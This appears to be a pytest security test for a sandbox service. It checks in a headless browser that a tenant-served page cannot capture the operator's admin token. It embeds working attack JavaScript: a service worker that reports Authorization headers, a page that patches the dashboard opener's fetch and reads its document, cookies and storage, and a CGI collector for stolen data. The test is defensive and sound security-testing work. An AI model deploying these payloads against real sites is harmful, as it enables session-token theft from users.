"""A tenant's web page must never become the operator: attacks from a page a
sandbox serves through its port link, in a real headless browser (Debian's
chromium and chromium-driver, driven by selenium from PyPI), against a real
``corral serve`` with an operator token and a tenant.

The tenant's sandbox serves (busybox ``httpd``) an attack page, a service
worker script sent with ``Service-Worker-Allowed: /``, and a collector CGI
that writes whatever reaches it to ``/tmp/captured.log`` inside the
sandbox. The browser opens the tenant's link; the page tries to register
its worker for the whole origin and for the service's origin, then the
operator opens the dashboard with the admin token in the same browser and
opens a page of the tenant's from it (``window.opener``); that page patches
the opener's ``fetch``, reads its address and document, frames the
dashboard, and reads cookies, ``localStorage`` and ``sessionStorage``.
Whatever any of it saw is sent to the collector. The test reads the log
inside the sandbox and asserts the admin token is not in it; a worker
within the link's own pages does capture a navigation there (the control:
the capture itself works in this browser).

Port links live on an origin of their own (``server.ports_listen``), so
none of this reaches the API's or the dashboard's origin.
"""

from __future__ import annotations

import shutil
import time
import urllib.parse
import uuid

import pytest

import corral
from corral.testing import LocalServer

from conftest import corral_binary, server_config

pytestmark = pytest.mark.server

webdriver = pytest.importorskip("selenium.webdriver")

ADMIN = "admin" + uuid.uuid4().hex
TENANT = "mallory" + uuid.uuid4().hex

COLLECT = r"""#!/bin/sh
printf 'Content-Type: text/plain\r\nCache-Control: no-store\r\n\r\n'
echo "$QUERY_STRING" >> /tmp/captured.log
echo ok
"""

# Sent with Service-Worker-Allowed: / so that, on an origin shared with the
# service, it may claim every page of it.
WORKER = r"""#!/bin/sh
printf 'Content-Type: text/javascript\r\nService-Worker-Allowed: /\r\nCache-Control: no-store\r\n\r\n'
cat <<'JS'
const collect = new URL("collect", self.location).href;
const report = (what) => fetch(collect + "?sw-saw=" + encodeURIComponent(what)).catch(() => {});
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const auth = e.request.headers.get("authorization") || "";
  report(e.request.url + " auth=" + auth);
});
JS
"""

PAGE = r"""<!doctype html><title>a tenant's app</title><p id="status">starting</p>
<script>
const API = "__API__";
const report = (k, v) => fetch("cgi-bin/collect?" + k + "=" + encodeURIComponent(v)).catch(() => {});
async function activated(reg) {
  const w = reg.installing || reg.waiting || reg.active;
  if (w.state === "activated") return;
  await new Promise((r) => w.addEventListener("statechange", () => w.state === "activated" && r()));
}
async function attempt(name, scope) {
  try {
    const reg = await navigator.serviceWorker.register("cgi-bin/sw.js", { scope });
    await activated(reg);
    await report(name, "ok " + reg.scope);
  } catch (e) {
    await report(name, "refused " + e.name);
  }
}
(async () => {
  await attempt("reg-root", "/");
  await attempt("reg-api", API + "/");
  await attempt("reg-control", "cgi-bin/");
  localStorage.setItem("planted", "by-the-tenant");
  document.cookie = "planted=by-the-tenant; path=/";
  // The control: a navigation within the worker's own scope.
  const f = document.createElement("iframe");
  f.src = "cgi-bin/collect?nav=control-marker";
  f.onload = () => { document.getElementById("status").textContent = "armed"; };
  document.body.appendChild(f);
})();
</script>
"""

OPENED = r"""<!doctype html><title>opened from the dashboard</title><p id="status">probing</p>
<script>
const API = "__API__";
const report = (k, v) => fetch("cgi-bin/collect?" + k + "=" + encodeURIComponent(v)).catch(() => {});
const probes = {
  "opener-null": () => String(window.opener === null),
  "opener-href": () => window.opener.location.href,
  "opener-html": () => window.opener.document.documentElement.outerHTML.slice(0, 4000),
  "opener-patch": () => {
    const real = window.opener.fetch;
    window.opener.fetch = function (url, init) {
      report("opener-fetch", String(url) + " " + JSON.stringify(init || {}));
      return real.apply(this, arguments);
    };
    return "patched";
  },
  "cookie": () => document.cookie,
  "local": () => JSON.stringify(Object.assign({}, localStorage)),
  "session": () => JSON.stringify(Object.assign({}, sessionStorage)),
};
(async () => {
  for (const [k, f] of Object.entries(probes)) {
    let v;
    try { v = f(); } catch (e) { v = "refused " + e.name; }
    await report(k, v);
  }
  const frame = document.createElement("iframe");
  frame.src = API + "/dashboard";
  frame.onload = async () => {
    let v;
    try { v = frame.contentWindow.document.documentElement.outerHTML.slice(0, 4000); } catch (e) { v = "refused " + e.name; }
    await report("iframe", v);
    document.getElementById("status").textContent = "done";
  };
  document.body.appendChild(frame);
})();
</script>
"""


def _browser():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    driver = shutil.which("chromedriver")
    if not chromium or not driver:
        pytest.fail("this test needs chromium and chromium-driver (apt-get install chromium chromium-driver)")
    from selenium.webdriver.chrome.service import Service

    opts = webdriver.ChromeOptions()
    opts.binary_location = chromium
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1200,800"):
        opts.add_argument(arg)
    return webdriver.Chrome(service=Service(driver), options=opts)


def _wait(what, predicate, timeout=60.0):
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        if time.monotonic() > deadline:
            pytest.fail(f"never: {what}")
        time.sleep(0.25)


@pytest.fixture(scope="module")
def service():
    config = server_config(
        server={"admin_token": ADMIN, "tenants": {"mallory": {"token": TENANT}}},
    )
    server = LocalServer(corral_binary(), config=config)
    server.start()
    try:
        yield server
    finally:
        server.close()


def test_a_page_a_sandbox_serves_never_gets_the_operators_token(service, corral_spec):
    from selenium.webdriver.common.by import By

    api = service.url
    tenant = corral.Client(api, token=TENANT)
    with tenant.sandbox(spec=corral_spec()) as sb:
        sb.write_file("/www/cgi-bin/collect", COLLECT, mode="755", mkdirs=True)
        sb.write_file("/www/cgi-bin/sw.js", WORKER, mode="755")
        sb.write_file("/www/index.html", PAGE.replace("__API__", api))
        sb.write_file("/www/opened.html", OPENED.replace("__API__", api))
        started = sb.run(
            "touch /tmp/captured.log && httpd -p 8080 -h /www </dev/null >/dev/null 2>&1"
            " && for i in $(seq 1 50); do wget -q -O /dev/null http://127.0.0.1:8080/ && exit 0; sleep 0.1; done; exit 1"
        )
        assert started.exit_code == 0, started.stderr
        link = sb.port_url(8080)

        def captured() -> str:
            r = sb.run("cat /tmp/captured.log")
            return urllib.parse.unquote_plus(r.stdout)

        browser = _browser()
        try:
            # The tenant's page arms itself.
            browser.get(link)
            _wait("the tenant's page armed", lambda: browser.find_element(By.ID, "status").text == "armed")
            _wait("the worker's control capture", lambda: "sw-saw=" in captured() and "control-marker" in captured())

            # The operator opens the dashboard in the same browser.
            browser.get(f"{api}/dashboard?token={ADMIN}")
            _wait("the dashboard as the operator", lambda: browser.find_element(By.ID, "who").text == "as operator")
            assert ADMIN not in browser.current_url
            dashboard = browser.current_window_handle

            # ... and opens a page of the tenant's from it.
            browser.execute_script("window.open(arguments[0], 'tenant')", link + "opened.html")
            _wait("the opened page", lambda: len(browser.window_handles) == 2)
            other = [h for h in browser.window_handles if h != dashboard][0]
            browser.switch_to.window(other)
            _wait("the opened page's probes", lambda: browser.find_element(By.ID, "status").text == "done")
            browser.switch_to.window(dashboard)
            # The dashboard polls every 2 s with its token: a patched fetch
            # or a worker would have seen several of them by now.
            time.sleep(6)
            assert browser.find_element(By.ID, "who").text == "as operator"
        finally:
            browser.quit()

        log = captured()
        print(log)
        # The capture works (the control), and each probe ran.
        assert "control-marker" in log and "sw-saw=" in log, log
        for probe in ("reg-root=", "reg-api=", "opener-null=", "opener-href=", "opener-patch=", "cookie=",
                      "local=", "session=", "iframe="):
            assert probe in log, f"{probe} did not report:\n{log}"
        # The token never reached the sandbox, by any of them.
        assert ADMIN not in log, f"the sandbox captured the operator's token:\n{log}"
        assert not link.startswith(api + "/"), f"a port link on the API's origin: {link}"
        # How each was stopped: no worker for the service's origin, and none
        # beyond the link's own pages; no handle on the dashboard.
        assert "reg-api=refused" in log, log
        assert "reg-root=refused" in log, log
        assert "opener-patch=refused" in log and "opener-html=refused" in log, log
        assert "as operator" not in log, log
    tenant.close()
